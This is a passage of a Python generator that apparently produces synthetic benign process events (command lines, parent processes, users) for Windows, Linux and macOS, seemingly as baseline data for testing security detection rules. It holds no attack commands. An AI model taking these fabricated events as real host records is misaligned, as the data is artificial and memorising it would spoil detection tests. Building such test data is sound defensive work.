    img, cmd, pimg, pcmd, run = G.c([
        (SYS + "\\vssadmin.exe", G.c(["vssadmin list shadows", "vssadmin list writers", "vssadmin list shadowstorage", "vssadmin.exe List Shadows /For=D:"]), *interactive_shell(), "admin"),
        (SYS + "\\wbadmin.exe", f"\"C:\\Windows\\system32\\wbadmin.exe\" start backup -backupTarget:{G.c(['' + BS + '' + BS + '' + BS + '' + BS + 'srv-bkp01' + BS + '' + BS + 'backups', 'E:'])} -include:C:,D: -allCritical -vssFull -quiet", SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule", "system"),
        (SYS + "\\wbadmin.exe", "wbadmin get versions", *interactive_shell(), "admin"),
        (SYS + "\\vssadmin.exe", "vssadmin create shadow /for=D:", "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe", "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"", "system")])
    return {"img": img, "cmd": cmd.replace("\\\\\\\\", "\\\\").replace("\\\\b", "\\b") if "srv-bkp01" in cmd else cmd, "pimg": pimg, "pcmd": pcmd, "run": run}


@B("win-admin-powershell-cmdlets", "windows", "admins running read-mostly PowerShell (Get-Service, Get-ADUser -Filter, Restart-Service, Get-EventLog) from an elevated console or a management tool")
def _(c):
    body = G.c(["Get-Service -Name Spooler,W32Time | Select Name,Status", "Get-ADUser -Filter \"Department -eq 'Finance'\" -Properties LastLogonDate | Export-Csv C:\\Temp\\fin-users.csv -NoTypeInformation",
                "Restart-Service -Name Spooler -Force", "Get-EventLog -LogName System -Newest 50 -EntryType Error", "Get-ADComputer -Filter * -SearchBase 'OU=Servers,DC=corp,DC=example,DC=com' | Measure-Object",
                "Get-WindowsUpdateLog", "Test-NetConnection srv-app02 -Port 443", "Get-HotFix | Sort-Object InstalledOn -Descending | Select -First 5"])
    cmd = f"{G.c(['powershell.exe', 'powershell', 'pwsh.exe'])} {G.c(['-NoProfile ', '', '-NoLogo '])}{G.c(['-Command', '-c'])} \"{body}\""
    img = "C:\\Program Files\\PowerShell\\7\\pwsh.exe" if "pwsh" in cmd else PS
    pimg, pcmd = G.c([interactive_shell(), ("C:\\Windows\\System32\\ServerManager.exe", "\"C:\\Windows\\system32\\ServerManager.exe\" "), explorer()])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["admin", "useradmin"])}


@B("win-admin-service-registry-queries", "windows", "sc query/start of a known service, reg query of the Uninstall key, schtasks /query: routine inspection by an admin or inventory script")
def _(c):
    img, cmd = G.c([(SYS + "\\sc.exe", G.c(["sc query wuauserv", "sc queryex type= service state= all", "sc start Spooler", "sc qc WinDefend", "sc.exe query \"BITS\""])),
                    (SYS + "\\reg.exe", G.c(["reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s /f DisplayName",
                                             "reg query \"HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\" /s",
                                             "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server /v fDenyTSConnections"])),
                    (SYS + "\\schtasks.exe", G.c(["schtasks /query /fo LIST /v", "schtasks /query /tn \"\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start\"", "schtasks.exe /Query /FO CSV"]))])
    pimg, pcmd = G.c([interactive_shell(), cmd_wrap(cmd)])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["admin", "useradmin", "user"])}


@B("win-user-network-troubleshooting", "windows", "ipconfig, ping, tracert, nslookup, netstat, systeminfo and tasklist typed by a user or helpdesk in a console they opened", n=13)
def _(c):
    tgt = G.c(["intranet.corp.example.com", "srv-app02", "8.8.8.8", "outlook.office365.com", "10.20.0.1", "fs01"])
    img, cmd = G.c([(SYS + "\\ipconfig.exe", G.c(["ipconfig /all", "ipconfig /flushdns", "ipconfig /renew", "ipconfig"])),
                    (SYS + "\\PING.EXE", f"ping {G.c(['-n 4 ', '-t ', ''])}{tgt}"), (SYS + "\\TRACERT.EXE", f"tracert {G.c(['-d ', ''])}{tgt}"),
                    (SYS + "\\nslookup.exe", f"nslookup {tgt}"), (SYS + "\\NETSTAT.EXE", G.c(["netstat -ano", "netstat -an | findstr 443", "netstat -rn"])),
                    (SYS + "\\systeminfo.exe", "systeminfo"), (SYS + "\\tasklist.exe", G.c(["tasklist", "tasklist /svc", "tasklist /fi \"imagename eq outlook.exe\""]))])
    pimg, pcmd = interactive_shell()
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["user", "user", "useradmin"])}


@B("win-file-copy-jobs", "windows", "robocopy mirror jobs and net use drive mappings run by scheduled tasks or users against the company's file servers")
def _(c):
    fs = G.c(FILESERVERS)
    img, cmd = G.c([(SYS + "\\Robocopy.exe", f"robocopy D:\\Data \\\\{fs}\\backup\\{c.host} /MIR /R:2 /W:5 /MT:16 /LOG:C:\\Logs\\robocopy-{R.randint(1, 28):02d}.log /NP"),
                    (SYS + "\\Robocopy.exe", f"robocopy \"{c.home}\\Documents\" \"\\\\{fs}\\home$\\{c.user}\\Documents\" /E /XO /R:1 /W:1"),
                    (SYS + "\\net.exe", f"net use {G.c(['Z:', 'S:', 'K:'])} \\\\{fs}\\{G.c(['share', 'projects', 'dept'])} /persistent:yes"),
                    (SYS + "\\net.exe", "net use")])
    pimg, pcmd = G.c([interactive_shell(), (SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule"), cmd_wrap(cmd)])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": "system" if pimg.endswith("svchost.exe") else "user", "prun": "system" if pimg.endswith("svchost.exe") else "user"}


@B("win-developer-toolchain", "windows", "developers' git, python, pip, npm, node and cargo on a workstation: clones, installs and builds from the usual registries and the company's git")
def _(c):
    repo = G.c(["https://github.com/rust-lang/rustlings.git", "https://git.corp.example.com/platform/api.git", "https://github.com/microsoft/vscode-python.git", "git@git.corp.example.com:web/portal.git"])
    img, cmd = G.c([("C:\\Program Files\\Git\\cmd\\git.exe", f"git {G.c(['clone ' + repo, 'fetch --all --prune', 'pull --rebase', 'status', 'checkout -b feature/' + G.name(6)])}"),
                    ("C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe", f"git-remote-https origin {repo}"),
                    (f"{c.home}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe", f"python -m pip install {G.c(['-r requirements.txt', 'requests==2.31.0', '--upgrade pip', 'pytest'])}"),
                    ("C:\\Program Files\\nodejs\\node.exe", f"\"C:\\Program Files\\nodejs\\node.exe\" \"C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js\" {G.c(['ci', 'install', 'run build', 'test'])}"),
                    (f"{c.home}\\.cargo\\bin\\cargo.exe", f"cargo {G.c(['build --release', 'test', 'fetch', 'clippy'])}")])
    pimg, pcmd = G.c([interactive_shell(), (f"{c.home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", f"\"{c.home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": f"{c.home}\\source\\repos\\{G.c(['api', 'portal', 'tools'])}\\"}


@B("win-scheduled-maintenance", "windows", "Windows maintenance tasks: defrag, disk cleanup, WER queue upload, SIH client, SQM consolidator, diagnostics hosts")
def _(c):
    img, cmd = G.c([(SYS + "\\defrag.exe", "C:\\WINDOWS\\system32\\defrag.exe -c -h -o -$"), (SYS + "\\cleanmgr.exe", "\"C:\\WINDOWS\\system32\\cleanmgr.exe\" /autoclean /d C:"),
                    (SYS + "\\wermgr.exe", "C:\\WINDOWS\\system32\\wermgr.exe -upload"), (SYS + "\\sihclient.exe", "C:\\WINDOWS\\System32\\sihclient.exe  /cv " + G.name(22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") + ".0.2"),
                    (SYS + "\\wsqmcons.exe", "C:\\WINDOWS\\System32\\wsqmcons.exe"), (SYS + "\\sdiagnhost.exe", "C:\\WINDOWS\\System32\\sdiagnhost.exe -Embedding"),
                    (SYS + "\\rundll32.exe", G.c(["C:\\WINDOWS\\system32\\rundll32.exe Startupscan.dll,SusRunTask", "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask", "rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh"]))])
    return {"img": img, "cmd": cmd, "pimg": SYS + "\\svchost.exe", "pcmd": "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule", "run": "system"}


@B("win-crash-reporting", "windows", "WerFault started for a crashed or hung application: the Windows error reporting path")
def _(c):
    return {"img": SYS + "\\WerFault.exe", "cmd": f"C:\\WINDOWS\\system32\\WerFault.exe -u -p {G.pid()} -s {R.randint(100, 1500)}",
            "pimg": G.c(["C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", f"{c.home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "C:\\Windows\\explorer.exe"]),
            "pcmd": "", "run": "user"}


@B("win-logon-session-chain", "windows", "winlogon, userinit, explorer, ctfmon and sihost starting at user logon")
def _(c):
    img, cmd, pimg, pcmd = G.c([(SYS + "\\userinit.exe", "C:\\WINDOWS\\system32\\userinit.exe", SYS + "\\winlogon.exe", "winlogon.exe"),
                                (EXPLORER[0], "C:\\WINDOWS\\Explorer.EXE", SYS + "\\userinit.exe", "C:\\WINDOWS\\system32\\userinit.exe"),
                                (SYS + "\\sihost.exe", "sihost.exe", SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s UserManager"),
                                (SYS + "\\ctfmon.exe", "\"ctfmon.exe\"", SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k LocalSystemNetworkRestricted -p -s TabletInputService"),
                                (f"{c.home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", f"\"{c.home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", EXPLORER[0], "C:\\WINDOWS\\Explorer.EXE")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": "user", "prun": "system" if "winlogon" in pcmd or "svchost" in pcmd else "user"}


# Linux, benign ---------------------------------------------------------------------------------

SYSTEMD = ("/usr/lib/systemd/systemd", "/sbin/init")


@B("lin-systemd-service-starts", "linux", "systemd starting ordinary units: nginx, containerd, journald helpers, timers' services")
def _(c):
    img, cmd, user = G.c([("/usr/sbin/nginx", "/usr/sbin/nginx -g daemon on; master_process on;", "root"), ("/usr/bin/containerd", "/usr/bin/containerd", "root"),
                          ("/usr/lib/systemd/systemd-tmpfiles", "/usr/bin/systemd-tmpfiles --clean", "root"), ("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "root"),
                          ("/usr/lib/postgresql/14/bin/postgres", "/usr/lib/postgresql/14/bin/postgres -D /var/lib/postgresql/14/main -c config_file=/etc/postgresql/14/main/postgresql.conf", "postgres"),
                          ("/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n -iNONE", "syslog"), ("/usr/bin/redis-server", "/usr/bin/redis-server 127.0.0.1:6379", "redis"),
                          ("/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", "root")])
    return {"img": img, "cmd": cmd, "pimg": SYSTEMD[0], "pcmd": SYSTEMD[1], "user": user, "cwd": "/"}


@B("lin-cron-maintenance", "linux", "cron and systemd timers running logrotate, run-parts, apt-daily, man-db and updatedb", n=12)
def _(c):
    img, cmd = G.c([("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"), ("/usr/bin/run-parts", G.c(["run-parts --report /etc/cron.daily", "run-parts --report /etc/cron.hourly"])),
                    ("/usr/lib/apt/apt.systemd.daily", "/bin/sh /usr/lib/apt/apt.systemd.daily update"), ("/usr/bin/mandb", "/usr/bin/mandb --quiet"),
                    ("/usr/sbin/updatedb.plocate", "/usr/sbin/updatedb.plocate"), ("/usr/sbin/tmpreaper", "tmpreaper --mtime-dir 7d /tmp"),
                    ("/usr/lib/sysstat/sa1", "/usr/lib/sysstat/debian-sa1 1 1")])
    pimg, pcmd = G.c([("/usr/sbin/cron", "/usr/sbin/CRON -f -P"), SYSTEMD])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "user": "root", "cwd": "/"}


@B("lin-sshd-sessions", "linux", "sshd privilege-separated children and the login shells of users connecting over SSH")
def _(c):
    img, cmd, pimg, pcmd, user = G.c([("/usr/sbin/sshd", f"sshd: {c.user} [priv]", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "root"),
                                      ("/usr/sbin/sshd", f"sshd: {c.user}@pts/{R.randint(0, 5)}", "/usr/sbin/sshd", f"sshd: {c.user} [priv]", c.user),
                                      ("/usr/bin/bash", "-bash", "/usr/sbin/sshd", f"sshd: {c.user}@pts/{R.randint(0, 5)}", c.user),
                                      ("/usr/lib/openssh/sftp-server", "/usr/lib/openssh/sftp-server", "/usr/sbin/sshd", f"sshd: {c.user}@notty", c.user)])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "user": user, "cwd": "/" if user == "root" else c.home}


@B("lin-package-management", "linux", "apt, dpkg, yum, dnf and snap installing and updating packages, by admins or image builds",
   falco=("Launch Package Management Process in Container", "Error", "Package management process launched in container"), n=12)
def _(c):
    pkg = G.c(["nginx", "htop", "jq", "postgresql-client-14", "python3-venv", "build-essential", "curl", "ca-certificates"])
    img, cmd = G.c([("/usr/bin/apt-get", f"apt-get install -y {G.c(['--no-install-recommends ', ''])}{pkg}"), ("/usr/bin/apt-get", "apt-get update"),
                    ("/usr/bin/dpkg", f"/usr/bin/dpkg --status-fd 23 --configure --pending"), ("/usr/bin/dnf", f"dnf -y update {G.c(['--security', ''])}".strip()),
                    ("/usr/bin/yum", f"yum install -y {pkg}"), ("/usr/bin/snap", "snap refresh"), ("/usr/bin/apt", "apt list --upgradable")])
    spec = {"img": img, "cmd": cmd, "pimg": G.c(["/usr/bin/sudo", "/usr/bin/bash"]), "user": "root", "cwd": "/root"}
    spec["pcmd"] = f"sudo {cmd}" if spec["pimg"].endswith("sudo") else "/bin/sh -c " + cmd
    if R.random() < 0.3:
        spec["container"] = ("docker.io/library/ubuntu", "22.04", "buildkit-" + G.hx(6), "ci", "runner-" + G.hx(8))
        spec["pimg"], spec["pcmd"] = "/bin/sh", f"/bin/sh -c apt-get update && {cmd}"
    return spec


@B("lin-unattended-upgrades", "linux", "unattended-upgrades and needrestart run by systemd's apt timers")
def _(c):
    img, cmd = G.c([("/usr/bin/python3.10", "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only"), ("/usr/bin/python3.10", "/usr/bin/python3 /usr/bin/unattended-upgrade"),
                    ("/usr/sbin/needrestart", "/usr/bin/perl /usr/sbin/needrestart -m a"), ("/usr/lib/update-notifier/apt-check", "/usr/bin/python3 /usr/lib/update-notifier/apt-check --human-readable")])
    return {"img": img, "cmd": cmd, "pimg": SYSTEMD[0], "pcmd": SYSTEMD[1], "user": "root", "cwd": "/"}


@B("lin-container-runtime", "linux", "dockerd, containerd shims, runc and kubelet doing their normal work on a container host", n=12)
def _(c):
    cid = G.hx(64)
    img, cmd, pimg, pcmd = G.c([("/usr/bin/containerd-shim-runc-v2", f"/usr/bin/containerd-shim-runc-v2 -namespace {G.c(['moby', 'k8s.io'])} -id {cid} -address /run/containerd/containerd.sock", "/usr/bin/containerd", "/usr/bin/containerd"),
                                ("/usr/bin/runc", f"runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/io.containerd.runtime.v2.task/moby/{cid}/log.json --log-format json create --bundle /run/containerd/io.containerd.runtime.v2.task/moby/{cid} --pid-file /run/containerd/io.containerd.runtime.v2.task/moby/{cid}/init.pid {cid}", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby"),
                                ("/usr/bin/kubelet", "/usr/bin/kubelet --bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf --kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///var/run/containerd/containerd.sock", *SYSTEMD),
                                ("/usr/sbin/iptables", "iptables -w 5 -W 100000 -N KUBE-KUBELET-CANARY -t mangle", "/usr/bin/kubelet", "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml"),
                                ("/usr/bin/dockerd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", *SYSTEMD)])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "user": "root", "cwd": "/"}


@B("lin-app-servers", "linux", "Python and Node application servers and their workers: gunicorn, uvicorn, celery, node, pm2")
def _(c):
    img, cmd, user = G.c([("/srv/app/venv/bin/python3", "/srv/app/venv/bin/python3 /srv/app/venv/bin/gunicorn app.wsgi:application --workers 4 --bind 0.0.0.0:8000", "app"),
                          ("/opt/api/.venv/bin/python", "/opt/api/.venv/bin/python -m uvicorn main:app --host 0.0.0.0 --port 8080 --proxy-headers", "app"),
                          ("/srv/app/venv/bin/python3", "/srv/app/venv/bin/python3 -m celery -A tasks worker --loglevel=INFO --concurrency=4", "app"),
                          ("/usr/bin/node", f"node /srv/{G.c(['web', 'portal', 'api'])}/dist/server.js", "node"), ("/usr/local/bin/node", "node /usr/lib/node_modules/pm2/lib/Daemon.js", "node")])
    return {"img": img, "cmd": cmd, "pimg": G.c([SYSTEMD[0], "/usr/bin/bash"]), "pcmd": G.c([SYSTEMD[1], "/bin/bash /srv/app/start.sh"]), "user": user, "cwd": "/srv/app"}


@B("lin-shell-everyday-commands", "linux", "users and admins in their own shells: ls, grep, less, vim, top, df, journalctl, systemctl status", n=12)
def _(c):
    cmd = G.c(["ls -la", "grep -rn TODO src/", "less /var/log/nginx/access.log", "vim config.yaml", "top", "df -h", "du -sh *", "journalctl -u nginx --since today",
               "systemctl status postgresql", "tail -f /var/log/syslog", "free -m", "ps aux --sort=-%mem", "cat /etc/os-release", "uptime"])
    tool = cmd.split()[0]
    img = {"ls": "/usr/bin/ls", "grep": "/usr/bin/grep", "less": "/usr/bin/less", "vim": "/usr/bin/vim.basic", "top": "/usr/bin/top", "df": "/usr/bin/df", "du": "/usr/bin/du",
           "journalctl": "/usr/bin/journalctl", "systemctl": "/usr/bin/systemctl", "tail": "/usr/bin/tail", "free": "/usr/bin/free", "ps": "/usr/bin/ps", "cat": "/usr/bin/cat", "uptime": "/usr/bin/uptime"}[tool]
    return {"img": img, "cmd": cmd, "pimg": G.c(["/usr/bin/bash", "/usr/bin/zsh"]), "pcmd": G.c(["-bash", "bash", "-zsh"]), "user": c.user, "cwd": G.c([c.home, c.home + "/src/api", "/var/log"])}


@B("lin-build-toolchains", "linux", "gcc, make, cargo, go and their sub-tools compiling code on build agents and developer VMs", n=12)
def _(c):
    img, cmd, pimg, pcmd = G.c([("/usr/bin/gcc-11", f"gcc -O2 -Wall -c src/{G.name(5)}.c -o build/{G.name(5)}.o", "/usr/bin/make", "make -j8"),
                                ("/usr/lib/gcc/x86_64-linux-gnu/11/cc1", f"/usr/lib/gcc/x86_64-linux-gnu/11/cc1 -quiet -imultiarch x86_64-linux-gnu src/{G.name(5)}.c -quiet -dumpbase {G.name(5)}.c -mtune=generic -march=x86-64 -O2 -o /tmp/cc{G.name(6, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')}.s", "/usr/bin/gcc-11", "gcc -O2 -c"),
                                ("/usr/bin/make", G.c(["make -j8", "make install PREFIX=/usr/local", "make test"]), "/usr/bin/bash", "bash build.sh"),
                                (f"{c.home}/.cargo/bin/cargo", f"cargo {G.c(['build --release', 'test --workspace', 'clippy --all-targets'])}", "/usr/bin/bash", "-bash"),
                                (f"{c.home}/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc", f"{c.home}/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc --crate-name {G.c(['serde', 'tokio', 'api'])} --edition=2021 src/lib.rs --crate-type lib --emit=dep-info,metadata,link -C opt-level=3", f"{c.home}/.cargo/bin/cargo", "cargo build --release"),
                                ("/usr/local/go/bin/go", f"go {G.c(['build ./...', 'test ./... -race', 'vet ./...', 'mod download'])}", "/usr/bin/bash", "bash")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "user": G.c([c.user, "svc-build", "jenkins"]), "cwd": f"{c.home}/src/{G.c(['api', 'agent', 'libfoo'])}"}


@B("lin-developer-downloads", "linux", "git clone/fetch, pip, npm, cargo, go get, rustup and curl to known APIs: developers fetching code and packages from where they normally do", n=12)
def _(c):
    img, cmd = G.c([("/usr/bin/git", f"git clone https://github.com/{G.c(['tokio-rs/axum', 'psf/requests', 'kubernetes/client-go', 'pallets/flask'])}.git"),
                    ("/usr/bin/git", "git fetch origin --prune"), ("/usr/bin/pip3", f"pip3 install --user {G.c(['-r requirements.txt', 'httpx==0.27.0', 'black'])}"),
                    ("/usr/bin/npm", f"npm {G.c(['ci', 'install --save-dev typescript', 'audit fix'])}"), ("/usr/local/go/bin/go", f"go get {G.c(['github.com/spf13/cobra@v1.8.0', 'golang.org/x/sync@latest'])}"),
                    ("/usr/bin/curl", G.c(["curl -s https://api.github.com/repos/rust-lang/rust/releases/latest", "curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs -o rustup-init.sh",
                                           "curl -sH \"Authorization: Bearer $TOKEN\" https://api.corp.example.com/v2/health"])),
                    (f"{c.home}/.cargo/bin/rustup", "rustup update stable")])
    return {"img": img, "cmd": cmd, "pimg": G.c(["/usr/bin/bash", "/usr/bin/zsh"]), "pcmd": G.c(["-bash", "bash", "-zsh"]), "user": c.user, "cwd": G.c([c.home, c.home + "/src"])}


@B("lin-admin-network-tools", "linux", "admins using tcpdump with a packet limit, ss, dig, ping, curl -I and an nmap host-discovery sweep of their own subnet from the IT jump host (routine inventory: -sn only, own /24, from the jump host)")
def _(c):
    img, cmd = G.c([("/usr/bin/tcpdump", f"tcpdump -i {G.c(['eth0', 'ens5', 'any'])} -c {G.c(['100', '200', '50'])} {G.c(['port 443', 'host 10.20.4.17', 'port 53', '-w /tmp/dns.pcap port 53'])}"),
                    ("/usr/bin/ss", "ss -tulpn"), ("/usr/bin/dig", f"dig +short {G.c(['api.corp.example.com', 'db-prod-02.internal', 'MX example.com'])}"),
                    ("/usr/bin/ping", f"ping -c 3 {G.lan('10.20')}"), ("/usr/bin/curl", "curl -sI https://intranet.corp.example.com/healthz"),
                    ("/usr/bin/nmap", f"nmap -sn {G.c(['10.20.4.0/24', '10.20.8.0/24', '10.32.1.0/24'])}")])
    if "nmap" in cmd:
        c.host = G.c(["bastion-eu1", "jump-01"])
    return {"img": img, "cmd": cmd, "pimg": "/usr/bin/sudo", "pcmd": f"sudo {cmd}", "user": "root", "auid": "user", "interactive": True, "cwd": c.home}


@B("lin-containers-and-infra-cli", "linux", "docker build/pull/run without privileges, kubectl get, helm and terraform from developers and CI", n=12)
def _(c):
    img, cmd = G.c([("/usr/bin/docker", f"docker build -t registry.corp.example.com/{G.c(['api', 'web', 'worker'])}:{G.hx(7)} ."), ("/usr/bin/docker", f"docker pull {G.c(['postgres:16', 'redis:7-alpine', 'python:3.12-slim'])}"),
                    ("/usr/bin/docker", f"docker run --rm -p 8080:8080 -e ENV=dev registry.corp.example.com/api:{G.hx(7)}"), ("/usr/local/bin/kubectl", f"kubectl get pods -n {G.c(['payments', 'web', 'default'])} -o wide"),
                    ("/usr/local/bin/kubectl", f"kubectl rollout status deploy/{G.c(['api', 'web'])} -n {G.c(['payments', 'web'])}"), ("/usr/local/bin/helm", "helm upgrade --install api ./chart -f values-prod.yaml"),
                    ("/usr/local/bin/terraform", G.c(["terraform plan -out tfplan", "terraform apply -auto-approve tfplan", "terraform init -upgrade"]))])
    return {"img": img, "cmd": cmd, "pimg": G.c(["/usr/bin/bash", "/opt/gitlab-runner/gitlab-runner"]), "pcmd": G.c(["-bash", "bash -c ./ci/deploy.sh"]), "user": G.c([c.user, "gitlab-runner"]), "cwd": c.home}


@B("lin-ssh-remote-copy", "linux", "ssh, scp and rsync between internal hosts by admins and deployment jobs")
def _(c):
    h = G.c(["db-prod-02", "web-03", "10.20.4.17", "backup.internal", "api-prod-1"])
    img, cmd = G.c([("/usr/bin/ssh", f"ssh {G.c(['', '-A ', '-J bastion-eu1 '])}{c.user}@{h}"), ("/usr/bin/scp", f"scp release.tar.gz {c.user}@{h}:/tmp/"),
                    ("/usr/bin/rsync", f"rsync -az --delete /srv/app/ deploy@{h}:/srv/app/"), ("/usr/bin/rsync", f"rsync -avh /var/backups/pg/ backup@{h}:/backups/{c.host}/")])
    return {"img": img, "cmd": cmd.replace("  ", " "), "pimg": G.c(["/usr/bin/bash", "/usr/bin/zsh"]), "pcmd": G.c(["-bash", "bash deploy.sh"]), "user": G.c([c.user, "deploy"]), "cwd": c.home}


@B("lin-ci-script-one-liners", "linux", "CI and build scripts using base64, openssl, python -c and sha256sum on their own files and configs")
def _(c):
    cmd = G.c(["base64 -w0 config/app.yaml", "base64 -d secrets.enc.b64 > /dev/null", "openssl req -new -newkey rsa:2048 -nodes -keyout tls.key -out tls.csr -subj /CN=api.corp.example.com",
               "openssl x509 -in certs/ca.pem -noout -enddate", "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"version\"])'", "python3 -c \"import sys; print(sys.version)\"",
               "sha256sum dist/app.tar.gz", "openssl rand -hex 16"])
    tool = cmd.split()[0]
    img = {"base64": "/usr/bin/base64", "openssl": "/usr/bin/openssl", "python3": "/usr/bin/python3.10", "sha256sum": "/usr/bin/sha256sum"}[tool]
    return {"img": img, "cmd": cmd, "pimg": "/usr/bin/bash", "pcmd": G.c(["bash ./ci/build.sh", "/bin/bash -e /builds/platform/api.tmp/script.sh", "bash -c make release"]),
            "user": G.c(["gitlab-runner", "jenkins", "svc-build"]), "cwd": G.c(["/builds/platform/api", "/var/lib/jenkins/workspace/api"])}


# macOS, benign ---------------------------------------------------------------------------------

LAUNCHD = ("/sbin/launchd", "/sbin/launchd")


@B("mac-launchd-system-agents", "macos", "launchd starting Spotlight workers, trustd, cloudd, softwareupdated and other Apple agents", n=12)
def _(c):
    img, cmd, user = G.c([("/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared", c.user),
                          ("/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mds_stores", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Support/mds_stores", "root"),
                          ("/usr/libexec/trustd", "/usr/libexec/trustd --agent", c.user), ("/System/Library/PrivateFrameworks/CloudKitDaemon.framework/Support/cloudd", "/System/Library/PrivateFrameworks/CloudKitDaemon.framework/Support/cloudd", c.user),
                          ("/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", "root"),
                          ("/usr/libexec/nsurlsessiond", "/usr/libexec/nsurlsessiond", c.user), ("/System/Library/CoreServices/ReportCrash", "/System/Library/CoreServices/ReportCrash agent", c.user)])
    return {"img": img, "cmd": cmd, "pimg": LAUNCHD[0], "pcmd": LAUNCHD[1], "user": user, "cwd": c.home if user == c.user else "/System/Library"}


@B("mac-xcode-builds", "macos", "xcodebuild, clang, swift-frontend and ld from Xcode building a developer's project", n=12)
def _(c):
    xc = "/Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin"
    proj = G.c(["MobileApp", "Widgets", "CorpVPN", "Notes"])
    img, cmd, pimg, pcmd = G.c([(f"{xc}/clang", f"{xc}/clang -x objective-c -target arm64-apple-macos14.0 -fmodules -O0 -c {c.home}/src/{proj}/Sources/{G.name(6)}.m -o {c.home}/Library/Developer/Xcode/DerivedData/{proj}-{G.name(28)}/Build/Intermediates.noindex/{G.name(6)}.o", "/Applications/Xcode.app/Contents/Developer/usr/bin/xcodebuild", f"xcodebuild -scheme {proj} build"),
                                (f"{xc}/swift-frontend", f"{xc}/swift-frontend -frontend -c -primary-file {c.home}/src/{proj}/Sources/{G.name(6)}.swift -target arm64-apple-macos14.0 -enable-objc-interop -module-name {proj} -o /tmp/{G.name(8)}.o", f"{xc}/swift-driver", "swift-driver --driver-mode=swiftc"),
                                ("/Applications/Xcode.app/Contents/Developer/usr/bin/xcodebuild", f"xcodebuild -project {proj}.xcodeproj -scheme {proj} -configuration {G.c(['Debug', 'Release'])} {G.c(['build', 'test', 'archive'])}", "/bin/zsh", "-zsh"),
                                (f"{xc}/ld", f"{xc}/ld -arch arm64 -platform_version macos 14.0 14.4 -o {c.home}/Library/Developer/Xcode/DerivedData/{proj}/Build/Products/Debug/{proj}.app/Contents/MacOS/{proj}", f"{xc}/clang", "clang -arch arm64")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": f"{c.home}/src/{proj}"}


@B("mac-homebrew-activity", "macos", "brew install, upgrade and cleanup, and the curl and git calls brew makes to its own sources")
def _(c):
    pkg = G.c(["jq", "wget", "node@20", "python@3.12", "awscli", "terraform", "ripgrep", "gnupg"])
